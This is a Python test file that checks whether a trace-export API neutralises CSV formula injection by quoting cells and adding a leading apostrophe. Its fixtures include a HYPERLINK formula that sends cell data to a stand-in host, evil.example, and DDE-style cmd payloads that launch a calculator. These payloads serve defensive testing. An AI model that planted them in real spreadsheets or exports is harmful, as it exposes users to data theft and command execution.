"""CSV injection: a trace whose fields hold spreadsheet formulas must not export cells that run them.

OWASP's rule: a cell starting with ``=``, ``+``, ``-``, ``@``, tab or CR gets a leading ``'`` and is
quoted, so an auditor opening the export sees the text instead of running it.
"""

from __future__ import annotations

import csv
import io
from collections import namedtuple
from typing import Any

import pytest

from cts_helpers import Api, TraceFactory
from opencts.traces import export

Row = namedtuple("Row", export.CSV_SOURCE)  # type: ignore[misc]
LEADS = ["=", "+", "-", "@", "\t", "\r"]
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


async def test_exported_formulas_are_neutralised_and_quoted(api: Api, make_trace: TraceFactory) -> None:
    trace = make_trace(
        resource_name=FORMULA,
        resource_id="+cmd|' /C calc'!A0",
        resource_type="-2+3",
        user={"id": "u" * 32, "name": "@SUM(1+1)*cmd|' /C calc'!A0", "domain": {"id": "d" * 32}},
    )
    assert (await api.put([trace])).json()["accepted"] == 1
    resp = await api.client.get(f"/v3/{api.project}/traces/export", params={"format": "csv"})
    assert resp.status_code == 200, resp.text
    header, row = rows_of(resp.text)
    cells = dict(zip(header, row, strict=True))
    assert cells["Resource Name"] == "'" + FORMULA
    assert cells["Resource ID"] == "'+cmd|' /C calc'!A0"
    assert cells["Resource Type"] == "'-2+3"
    assert cells["Operator"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    # every cell of that row is quoted in the file, not only those that need it for commas
    line = resp.text.splitlines()[1]
    assert line.startswith('"') and line.count('","') == len(header) - 1
    assert not any(c.startswith(tuple(LEADS)) for c in row)


def plain(seq: int, **overrides: Any) -> Any:
    values: dict[str, Any] = {
        "seq": seq,
        "time": 1_800_000_000_000 + seq,
        "trace_name": "login",
        "resource_type": "user",
        "service_type": "IAM",
        "resource_id": "u1",
        "resource_name": "alice",
        "trace_rating": "normal",
        "user_name": "alice",
        "source_ip": "203.0.113.9",
        "code": "200",
        "trace_type": "ConsoleAction",
        "trace_id": f"t{seq}",
        "request_id": "r1",
        "submitter": "alice (token)",
        "body": b"{}",
    }
    values.update(overrides)
    return Row(**values)


@pytest.mark.parametrize("lead", LEADS, ids=["eq", "plus", "minus", "at", "tab", "cr"])
@pytest.mark.parametrize(
    "field", ["trace_name", "resource_id", "resource_name", "user_name", "code", "request_id", "submitter"]
)
def test_a_formula_in_any_field_is_neutralised_even_among_plain_rows(lead: str, field: str) -> None:
    rows = [plain(i) for i in range(30)]
    rows[17] = plain(17, **{field: f"{lead}1+1"})
    text = export._CsvChunks().text(rows)
    parsed = rows_of(text)
    assert len(parsed) == 30
    assert all(not c.startswith(tuple(LEADS)) for r in parsed for c in r)
    assert f"'{lead}1+1" in parsed[17]
    assert parsed[16] == next(iter(rows_of(export._CsvChunks().text([rows[16]]))))


def test_a_formula_in_the_first_column_of_the_first_line_is_caught() -> None:
    text = export._CsvChunks().text([plain(1, trace_name="=1+1"), plain(2)])
    assert text.startswith('"\'=1+1",')
